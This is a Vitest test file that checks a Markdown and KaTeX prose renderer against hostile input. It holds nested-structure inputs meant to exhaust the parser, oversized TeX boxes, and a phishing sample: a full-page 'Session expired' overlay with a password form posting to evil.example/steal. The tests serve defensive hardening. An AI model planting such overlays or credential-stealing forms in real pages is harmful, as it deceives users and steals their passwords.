// @vitest-environment jsdom
// Issue 19 #7: the prose renderer (Markdown + KaTeX → sanitised HTML) must answer hostile
// input with HTML, never an exception, and strip what could overlay or phish the page.
import { describe, expect, it } from 'vitest';
import { renderProse } from '../../src/lib/prose/render';

describe('prose rendering of hostile Markdown', () => {
	it.each([
		['nested braces in math', '$' + '{'.repeat(5000) + 'x' + '}'.repeat(5000) + '$'],
		['nested braces in display math', '$$' + '{'.repeat(5000) + '$$'],
		['nested brackets', '['.repeat(5000) + 'x' + ']'.repeat(5000)],
		['nested quotes', '>'.repeat(5000) + ' x'],
		['nested lists (deeper than the length cap allows)', Array.from({ length: 2000 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n')],
		['nested HTML', '<div>'.repeat(2000) + 'x' + '</div>'.repeat(2000)]
	])('%s: no exception, some text', (_name, md) => {
		let html = '';
		expect(() => (html = renderProse(md))).not.toThrow();
		expect(html.length).toBeGreaterThan(0);
	});

	it('caps the sizes TeX may give its own boxes (no page-sized rule or raised box over the text)', () => {
		const html = renderProse('$\\rule{500em}{500em}$ and $\\raisebox{300em}{x}$ and $\\kern-400em x$');
		// in the visible HTML's styles (the MathML copy is hidden by KaTeX's CSS)
		const styles = [...html.matchAll(/style="([^"]*)"/g)].map((m) => m[1]).join(';');
		const ems = [...styles.matchAll(/(\d+(?:\.\d+)?)em/g)].map((m) => Number(m[1]));
		expect(ems.length).toBeGreaterThan(3);
		expect(Math.max(...ems)).toBeLessThanOrEqual(20);
	});

	it('keeps a placeholder-like text or one inside an attribute as text', () => {
		const html = renderProse('@@MATH7@@ and [link](https://example.org "$x$") $y$');
		expect(html).toContain('@@MATH7@@');
		expect(html).toContain('title="@@MATH0@@"');
		expect(html).toContain('class="katex"');
	});

	it('strips inline styles (a full-page overlay) and form elements', () => {
		const html = renderProse(
			'<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>\n\n' +
				'<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button><select><option>a</option></select><textarea>t</textarea></form>\n\n' +
				'<span style="color:red">red</span> and *emphasis*'
		);
		expect(html).not.toMatch(/style=|position:\s*fixed/i);
		expect(html).not.toMatch(/<(form|input|button|select|option|textarea)\b/i);
		expect(html).toContain('Session expired'); // the text stays, harmless
		expect(html).toContain('<em>emphasis</em>');
	});

	it('keeps KaTeX’s own layout styles in math', () => {
		const html = renderProse('Inline $\\frac{a}{b}$ and $$\\sum_{i=1}^{W} x_i$$');
		expect(html).toContain('class="katex"');
		expect(html).toMatch(/<span class="katex-strut" style="height:/); // KaTeX sizes lines with inline styles
		expect(html).toContain('katex-display');
	});
});
